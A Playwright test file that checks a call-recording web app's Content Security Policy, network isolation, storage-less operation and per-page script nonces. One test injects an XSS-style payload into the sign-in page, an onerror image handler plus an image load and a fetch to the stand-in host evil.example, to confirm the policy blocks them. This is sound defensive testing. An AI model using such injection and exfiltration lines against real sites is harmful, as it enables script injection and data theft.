import type { BrowserContext, Page } from '@playwright/test';
import { expectSoundToAdvance, findCallOfTag } from './hear-call';
import { expect, test } from './legato-test';
import { openCall } from './open-page';

test.use({ person: null });

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Keeps what any page of the context was forbidden by its policy, from before its first script on. */
async function watchPolicy(context: BrowserContext): Promise<Violation[]> {
  const violations: Violation[] = [];
  await context.exposeFunction('reportViolation', (violation: Violation) => {
    violations.push(violation);
  });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective: directive, blockedURI: blocked, sample } = event;
      const report: unknown = Reflect.get(window, 'reportViolation');
      if (typeof report === 'function') report({ directive, blocked, sample });
    });
  });
  return violations;
}

/** All that is asked over the network, by whichever page or worker. */
function watchRequests(context: BrowserContext): URL[] {
  const asked: URL[] = [];
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (/^(https?|wss?):$/.test(url.protocol)) asked.push(url);
  });
  return asked;
}

/** From the sign-in to the sign-out: what somebody does with Legato on a day. */
async function spendADay(page: Page): Promise<void> {
  await page.goto('/');
  await page.getByRole('button', { name: /^Meg H\./ }).click();
  await page.getByRole('searchbox', { name: 'Search calls' }).fill('INV-20418');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL(/tag=INV-20418/);
  await openCall(page, await findCallOfTag(page, 'INV-20418'));
  await page.getByRole('button', { name: 'Play leg 2' }).click();
  await expectSoundToAdvance(page);
  await page.getByRole('button', { name: 'Pause leg 2' }).click();
  await page.goto('/status');
  await expect(page.getByRole('heading', { name: 'Status', level: 1 })).toBeVisible();
  await page.goto('/account');
  await expect(page.getByText('this browser')).toBeVisible();
  await page.getByRole('button', { name: 'Meg H., Recording manager' }).click();
  await page.getByRole('button', { name: 'Sign out' }).last().click();
  await expect(page.getByRole('heading', { name: 'Sign in', level: 1 })).toBeVisible();
}

test('a whole session asks Legato alone, and its policy forbids nothing of it', {
  tag: '@phone',
}, async ({ page, context, servers }) => {
  const asked = watchRequests(context);
  const violations = await watchPolicy(context);

  await spendADay(page);

  expect(asked.length).toBeGreaterThan(20);
  expect([...new Set(asked.map(({ origin }) => origin))]).toEqual([servers.legatoUrl]);
  expect(violations).toEqual([]);
});

test('a page whose storage is closed, as in a frame, works all the same', async ({
  page,
  context,
}) => {
  const violations = await watchPolicy(context);
  await context.addInitScript(() => {
    for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches']) {
      Object.defineProperty(window, name, {
        get: () => {
          throw new DOMException('Access is denied for this document.', 'SecurityError');
        },
      });
    }
  });

  await spendADay(page);

  expect(violations).toEqual([]);
});

test('a script that got into a page does not run, and takes nothing elsewhere', async ({
  page,
  context,
  allow,
}) => {
  // Chromium says that it asks, and then that the policy forbade it.
  allow.console(/Content Security Policy|violates|evil\.example/i);
  allow.request(/evil\.example|nothing\.svg/);
  const violations = await watchPolicy(context);
  const outcomes = new Set<string | undefined>();
  context.on('requestfailed', (request) => {
    if (request.url().includes('evil.example')) outcomes.add(request.failure()?.errorText);
  });
  context.on('requestfinished', (request) => {
    if (request.url().includes('evil.example')) outcomes.add('it was taken');
  });
  await page.goto('/sign-in');

  await page.evaluate(() => {
    const script = document.createElement('div');
    script.innerHTML =
      '<img src="/nothing.svg" onerror="document.title = 1"><style>main { display: none }</style>';
    document.body.append(script);
    const image = new Image();
    image.src = 'https://evil.example/?taken';
    document.body.append(image);
    void fetch('https://evil.example/?taken').catch(() => {});
  });

  const forbidden = () => new Set(violations.map(({ directive }) => directive));
  await expect
    .poll(forbidden)
    .toEqual(new Set(['script-src-attr', 'style-src-elem', 'img-src', 'connect-src']));
  await expect(page.getByRole('heading', { name: 'Sign in', level: 1 })).toBeVisible();
  await expect.poll(() => [...outcomes]).toEqual(['csp']);
  await expect(page).toHaveTitle(/Sign in/);
});

test('each page has a nonce of its own, and every script of it bears that', async ({ request }) => {
  const nonces: string[] = [];
  for (const path of ['/sign-in', '/sign-in', '/no-such-page']) {
    const answer = await request.get(path);
    const policy = answer.headers()['content-security-policy'] ?? '';
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
    nonces.push(nonce);
    const html = await answer.text();
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(2);
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    for (const style of html.match(/<style\b[^>]*>/g) ?? []) expect(style).toContain(nonce);
    expect(answer.headers()).not.toHaveProperty('x-powered-by');
    expect(answer.headers()['cache-control']).toContain('no-store');
  }
  expect(new Set(nonces).size).toBe(3);
  expect(nonces).not.toContain('');
});
